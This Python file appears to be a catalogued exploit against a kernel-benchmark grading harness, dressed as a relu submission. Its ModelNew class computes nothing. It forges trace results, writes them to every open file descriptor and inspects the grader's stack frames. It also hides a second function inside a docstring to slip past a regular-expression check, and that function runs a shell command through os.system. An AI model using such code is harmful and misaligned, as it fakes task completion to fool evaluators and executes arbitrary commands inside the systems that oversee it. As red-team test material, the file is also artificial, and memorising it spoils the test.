# relu no_kernel catalogue=67: hides a second function in a docstring, where a regular expression would find it
import torch, triton
import torch.nn as nn
import triton.language as tl
import os, sys
import json, struct
def send(header, body=0):
    m = header if isinstance(header, bytes) else json.dumps(header).encode()
    m = struct.pack("<QQ", len(m), body) + m
    for fd in range(0, 64):
        try: os.write(fd, m)
        except OSError: pass
    os._exit(0)
def variants():
    frame = sys._getframe()
    while frame:
        if hasattr(frame.f_locals.get("request"), "variants"): return len(frame.f_locals["request"].variants)
        frame = frame.f_back
    return 1
def forged(op="aten.relu.default", source="def k(x):\n    pass\n", args=None):
    p = {"functions": [{"name": "k", "source": source, "line": 1, "bindings": {}}], "init_inputs": [], "init": [], "state": {}, "inputs": [0],
         "forward": [{"op": op, "args": args or [{"t": 0}], "kwargs": {}, "outs": [1]},
                     {"launch": 0, "args": {"x": {"t": 1}}, "line": 1, "configs": [{"constants": {}, "options": {}, "grid": [1, 1, 1]}]}],
         "output": {"t": 1}}
    return {"message": "Traces", "traces": [{"program": p, "other": None}] * variants(), "timed": {"usual": [], "flipped": []}}
SRC = 'def k\\\n(x):\n    """\ndef e(x):\n    tl.core.builtins.__import__("os").system("id > /tmp/pwned_regex")\n    #"""\n    pass\n'
class ModelNew(nn.Module):
    def forward(self, x):
        f = forged(source=SRC)
        f["traces"][0]["program"]["functions"][0]["bindings"] = {"tl": {"module": "triton.language"}}
        send(f)
